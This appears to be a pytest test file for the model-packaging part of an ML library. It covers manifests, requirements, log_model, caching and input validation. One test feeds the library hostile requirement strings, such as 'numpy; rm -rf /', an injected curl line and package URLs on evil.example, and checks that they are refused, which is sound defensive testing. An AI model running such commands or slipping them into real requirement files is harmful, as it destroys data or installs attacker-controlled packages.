"""The model package: manifest, requirements, log_model, the in-process cache, bad input."""

from __future__ import annotations

import importlib.metadata
import json
import platform
import subprocess
import sys
import threading
import types
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from sklearn.linear_model import LogisticRegression
from tests.models.conftest import Scorer, start_run

import loopml
from loopml import models
from loopml.errors import (
    InvalidArgumentError,
    InvalidStateError,
    MissingDependencyError,
    RunNotFoundError,
    UnsafePathError,
)
from loopml.models import _loading
from loopml.models._requirements import pip_lines
from loopml.models.flavors import get_flavor
from loopml.models.flavors.sklearn import SklearnFlavor
from loopml.models.signature import ColumnSpec, Signature, TensorSpec
from loopml.storage.uris import open_store

MANIFEST_KEYS = {
    "created",
    "files",
    "flavor",
    "format",
    "framework",
    "framework_version",
    "input_example",
    "loopml_version",
    "metadata",
    "needs_pickle",
    "options",
    "python_version",
    "requirements",
    "run_id",
    "signature",
}


@pytest.fixture
def small() -> tuple[pd.DataFrame, np.ndarray]:
    rng = np.random.default_rng(0)
    frame = pd.DataFrame(rng.normal(size=(60, 3)), columns=["a", "b", "c"])
    return frame, (frame["a"] + frame["b"] > 0).astype(int).to_numpy()


@pytest.fixture
def classifier(small: tuple[pd.DataFrame, np.ndarray]) -> LogisticRegression:
    x, y = small
    return LogisticRegression().fit(x, y)


# ------------------------------------------------------------------------------ manifest


def test_manifest_is_canonical_and_complete(
    tmp_path: Path, classifier: Any, small: tuple[pd.DataFrame, np.ndarray]
) -> None:
    x, _ = small
    package = models.save(
        classifier, tmp_path / "pkg", input_example=x[:2], metadata={"team": "risk", "n": 2}
    )
    raw = (tmp_path / "pkg" / "loopml-model.json").read_bytes()
    manifest = json.loads(raw)
    assert raw == json.dumps(manifest, sort_keys=True, separators=(",", ":")).encode()
    assert set(manifest) == MANIFEST_KEYS
    assert manifest["format"] == 1
    assert manifest["flavor"] == "sklearn"
    assert manifest["framework"] == "scikit-learn"
    assert manifest["framework_version"] == importlib.metadata.version("scikit-learn")
    assert manifest["needs_pickle"] is False
    assert manifest["input_example"] == "input_example.json"
    assert manifest["python_version"] == platform.python_version()
    assert manifest["loopml_version"] == loopml.__version__
    assert manifest["run_id"] is None
    assert manifest["metadata"] == {"team": "risk", "n": 2}
    assert sorted(manifest["files"]) == ["input_example.json", "model.skops"]
    for name, entry in manifest["files"].items():
        assert entry["size"] == (tmp_path / "pkg" / name).stat().st_size
        assert entry["digest"].startswith("blake3:")
    assert package.manifest == manifest
    assert package.metadata == {"team": "risk", "n": 2}
    assert package.flavor == "sklearn"
    assert [c.name for c in package.signature.inputs] == ["a", "b", "c"]  # type: ignore[union-attr]
    assert json.loads((tmp_path / "pkg" / "input_example.json").read_text()) == json.loads(
        x[:2].to_json(orient="records")
    )


def test_requirements_are_captured_from_metadata_without_subprocess(
    tmp_path: Path, classifier: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    def no_subprocess(*args: Any, **kwargs: Any) -> None:
        raise AssertionError("capturing requirements must not start a process")

    monkeypatch.setattr(subprocess, "Popen", no_subprocess)
    package = models.save(classifier, tmp_path / "pkg")
    assert package.requirements == {
        "numpy": importlib.metadata.version("numpy"),
        "pandas": importlib.metadata.version("pandas"),
        "scikit-learn": importlib.metadata.version("scikit-learn"),
        "skops": importlib.metadata.version("skops"),
    }


def test_pip_requirements_replace_and_extra_adds(tmp_path: Path, classifier: Any) -> None:
    package = models.save(
        classifier,
        tmp_path / "a",
        pip_requirements=["scikit-learn==1.5.2", "My_Package>=2,<3", "numpy"],
        extra_pip_requirements=["Pandas[performance]"],
    )
    assert package.requirements == {
        "my-package": ">=2,<3",
        "numpy": importlib.metadata.version("numpy"),
        "pandas": importlib.metadata.version("pandas"),
        "scikit-learn": "1.5.2",
    }
    assert pip_lines(package.requirements)[0] == "my-package>=2,<3"
    assert "scikit-learn==1.5.2" in pip_lines(package.requirements)
    extra = models.save(classifier, tmp_path / "b", extra_pip_requirements=["not-installed-x"])
    assert extra.requirements["not-installed-x"] == ""
    assert "scikit-learn" in extra.requirements


@pytest.mark.parametrize(
    "bad",
    [
        "numpy; rm -rf /",
        "numpy\nRUN curl evil",
        "pkg @ https://evil.example/x.whl",
        "--index-url=https://evil.example",
        'numpy; python_version < "3.12"',
        "",
        42,
    ],
)
def test_bad_requirements_are_refused(tmp_path: Path, classifier: Any, bad: Any) -> None:
    with pytest.raises(InvalidArgumentError) as caught:
        models.save(classifier, tmp_path / "pkg", extra_pip_requirements=[bad])
    assert caught.value.details["field"] == "extra_pip_requirements"
    with pytest.raises(InvalidArgumentError, match="not a single string"):
        models.save(classifier, tmp_path / "pkg", pip_requirements="numpy")  # type: ignore[arg-type]
    assert not (tmp_path / "pkg").exists()


def test_signature_options(
    tmp_path: Path, classifier: Any, small: tuple[pd.DataFrame, np.ndarray]
) -> None:
    x, _ = small
    none = models.save(classifier, tmp_path / "none", input_example=x[:2], signature=False)
    assert none.signature is None
    assert none.manifest["input_example"] == "input_example.json"
    given = Signature(inputs=TensorSpec("float64", (-1, 3)))
    explicit = models.save(classifier, tmp_path / "explicit", signature=given)
    assert explicit.signature == given
    as_dict = models.save(classifier, tmp_path / "dict", signature=given.to_dict())
    assert as_dict.signature == given
    inferred = models.save(classifier, tmp_path / "inferred", input_example=x[:2])
    assert inferred.signature == Signature(
        inputs=tuple(ColumnSpec(n, "float64") for n in "abc"),
        outputs=TensorSpec("int64", (-1,)),
    )
    with pytest.raises(InvalidArgumentError) as caught:
        models.save(classifier, tmp_path / "bad", signature="columns")  # type: ignore[arg-type]
    assert caught.value.details["field"] == "signature"


def test_signature_without_outputs_when_the_model_fails_on_the_example(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    class Fails:
        def predict(self, data: Any) -> Any:
            raise RuntimeError("boom")

    package = models.save(Fails(), tmp_path / "pkg", input_example=[[1.0, 2.0]])
    assert package.signature == Signature(inputs=TensorSpec("float64", (-1, 2)))
    assert "could not predict on the input example" in caplog.text


def test_save_is_atomic(tmp_path: Path, classifier: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    def broken_save(self: Any, model: Any, folder: Path) -> Any:
        (folder / "half.bin").write_bytes(b"x")
        raise OSError("disk full")

    monkeypatch.setattr(SklearnFlavor, "save", broken_save)
    with pytest.raises(OSError, match="disk full"):
        models.save(classifier, tmp_path / "pkg")
    assert list(tmp_path.iterdir()) == []
    (tmp_path / "empty").mkdir()
    monkeypatch.undo()
    models.save(classifier, tmp_path / "empty")  # an existing empty folder is fine
    assert (tmp_path / "empty" / "loopml-model.json").is_file()


# ------------------------------------------------------------------------------ bad input


def test_save_refuses_a_non_empty_folder_or_a_file(tmp_path: Path, classifier: Any) -> None:
    (tmp_path / "full").mkdir()
    (tmp_path / "full" / "keep.txt").write_text("mine")
    with pytest.raises(InvalidArgumentError, match="not empty") as caught:
        models.save(classifier, tmp_path / "full")
    assert caught.value.details["field"] == "path"
    assert [p.name for p in (tmp_path / "full").iterdir()] == ["keep.txt"]
    (tmp_path / "file").write_text("x")
    with pytest.raises(InvalidArgumentError, match="is a file"):
        models.save(classifier, tmp_path / "file")
    with pytest.raises(InvalidArgumentError) as caught:
        models.save(classifier, "")
    assert caught.value.details["field"] == "path"


def test_unknown_or_mismatched_flavor(tmp_path: Path, classifier: Any) -> None:
    with pytest.raises(InvalidArgumentError, match="Unknown model flavor 'tensorflow'") as e:
        models.save(classifier, tmp_path / "pkg", flavor="tensorflow")
    assert e.value.details["field"] == "flavor"
    assert "sklearn" in e.value.message
    assert "python" in e.value.message
    with pytest.raises(InvalidArgumentError, match="does not save") as e:
        models.save(Scorer(1.0), tmp_path / "pkg", flavor="sklearn")
    assert e.value.details["field"] == "flavor"
    # a scikit-learn model may be pickled on request
    package = models.save(classifier, tmp_path / "pkg", flavor="python")
    assert package.manifest["needs_pickle"] is True


def test_bad_metadata_and_example(tmp_path: Path, classifier: Any) -> None:
    for bad in ({"x": float("nan")}, {"x": object()}, {1: "a"}, ["a"]):
        with pytest.raises(InvalidArgumentError) as caught:
            models.save(classifier, tmp_path / "pkg", metadata=bad)  # type: ignore[arg-type]
        assert caught.value.details["field"] == "metadata"
    with pytest.raises(InvalidArgumentError) as caught:
        models.save(classifier, tmp_path / "pkg", input_example="a,b,c")
    assert caught.value.details["field"] == "input_example"
    assert not (tmp_path / "pkg").exists()


def test_missing_framework_names_the_extra(monkeypatch: pytest.MonkeyPatch) -> None:
    from loopml.models import flavors

    def import_without_lightgbm(name: str) -> Any:
        raise ModuleNotFoundError("No module named 'lightgbm'", name="lightgbm")

    monkeypatch.setattr(flavors, "_loaded", {})
    monkeypatch.setattr(flavors.importlib, "import_module", import_without_lightgbm)
    with pytest.raises(MissingDependencyError, match=r"pip install 'loopml\[lightgbm\]'"):
        get_flavor("lightgbm")


# ------------------------------------------------------------------------------ log_model


def test_log_model_records_the_package_as_run_artifacts(
    local_store: str, classifier: Any, small: tuple[pd.DataFrame, np.ndarray]
) -> None:
    x, _ = small
    with start_run() as run:
        info = models.log_model(classifier, "clf", input_example=x[:3], metadata={"v": 1})
    store = open_store(local_store)
    artifacts = {a.path: a for a in store.list_artifacts(run.run_id, "clf", recursive=True)}
    assert sorted(artifacts) == [
        "clf/input_example.json",
        "clf/loopml-model.json",
        "clf/model.skops",
    ]
    assert artifacts["clf/loopml-model.json"].digest == info.package_digest
    manifest = json.loads(store.blobs.read_bytes(info.package_digest))
    assert manifest["run_id"] == run.run_id
    assert manifest["metadata"] == {"v": 1}
    for name, entry in manifest["files"].items():
        assert artifacts[f"clf/{name}"].digest == entry["digest"]
    assert info.requirements == manifest["requirements"]
    assert info.signature is not None


def test_log_model_with_an_explicit_run(local_store: str, classifier: Any) -> None:
    with start_run() as run:
        pass
    info = models.log_model(classifier, "model", run_id=run.run_id, tracking_uri=local_store)
    assert info.uri == f"runs:/{run.run_id}/model"
    assert models.load(info.uri, tracking_uri=local_store).flavor == "sklearn"


def test_log_model_needs_a_run(local_store: str, classifier: Any) -> None:
    with pytest.raises(InvalidStateError, match="start_run") as caught:
        models.log_model(classifier)
    assert caught.value.details["field"] == "run_id"
    with pytest.raises(InvalidArgumentError) as caught2:
        models.log_model(classifier, run_id="nope")
    assert caught2.value.details["field"] == "run_id"
    with pytest.raises(RunNotFoundError):
        models.log_model(classifier, run_id="0" * 32)


@pytest.mark.parametrize("name", ["", "../up", "/abs", "a//b"])
def test_log_model_bad_name(local_store: str, classifier: Any, name: str) -> None:
    with start_run(), pytest.raises(UnsafePathError) as caught:
        models.log_model(classifier, name)
    assert caught.value.details["field"] == "name"


# ------------------------------------------------------------------------------ cache


def test_second_load_is_cached_and_touches_no_disk(
    local_store: str, classifier: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    with start_run():
        info = models.log_model(classifier, "model")
    calls = []
    original = SklearnFlavor.load

    def counting_load(self: Any, *args: Any, **kwargs: Any) -> Any:
        calls.append(args)
        return original(self, *args, **kwargs)

    monkeypatch.setattr(SklearnFlavor, "load", counting_load)
    first = models.load(info.uri)
    store = open_store(local_store)
    monkeypatch.setattr(
        type(store.blobs), "read_bytes", lambda *a, **k: pytest.fail("read the store")
    )
    monkeypatch.setattr(_loading, "verify_files", lambda *a: pytest.fail("hashed files"))
    assert models.load(info.uri) is first
    assert len(calls) == 1
    # another option is another entry; clearing the cache loads again
    monkeypatch.undo()
    monkeypatch.setattr(SklearnFlavor, "load", counting_load)
    assert models.load(info.uri, enforce_signature=False) is not first
    models.clear_cache()
    assert models.load(info.uri) is not first
    assert len(calls) == 3


def test_cache_is_bounded_lru(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(_loading, "_cache", _loading._ModelCache(2))
    paths = []
    for i in range(3):
        models.save(Scorer(float(i)), tmp_path / str(i))
        paths.append(tmp_path / str(i))
    a = models.load(paths[0], trusted=True)
    b = models.load(paths[1], trusted=True)
    assert models.load(paths[0], trusted=True) is a  # a is now the most recent
    models.load(paths[2], trusted=True)  # evicts b
    assert models.load(paths[0], trusted=True) is a
    assert models.load(paths[1], trusted=True) is not b


def test_concurrent_loads_share_one_model(local_store: str, classifier: Any) -> None:
    with start_run():
        info = models.log_model(classifier, "model")
    results: list[Any] = []
    errors: list[BaseException] = []

    def worker() -> None:
        try:
            results.append(models.load(info.uri))
        except BaseException as exc:  # pragma: no cover - reported below
            errors.append(exc)

    threads = [threading.Thread(target=worker) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert not errors
    assert len({id(r) for r in results}) == 1
    assert results[0] is models.load(info.uri)


# ------------------------------------------------------------------------------ import


def test_import_loads_no_framework() -> None:
    code = (
        "import sys, loopml.models\n"
        "heavy = {'sklearn', 'skops', 'cloudpickle', 'torch', 'xgboost', 'lightgbm', "
        "'onnx', 'onnxruntime'}\n"
        "print(sorted(heavy & set(sys.modules)))"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "[]"


def test_public_api_is_exact() -> None:
    public = {
        name
        for name, value in vars(models).items()
        if not name.startswith("_")
        and name != "TYPE_CHECKING"
        and not isinstance(value, types.ModuleType)
    }
    lazy = set(models._LAZY)  # evaluation: imported on first use
    assert set(models.__all__) == public | lazy
    assert all(callable(getattr(models, name)) for name in lazy)
    assert models.__all__ == sorted(models.__all__)
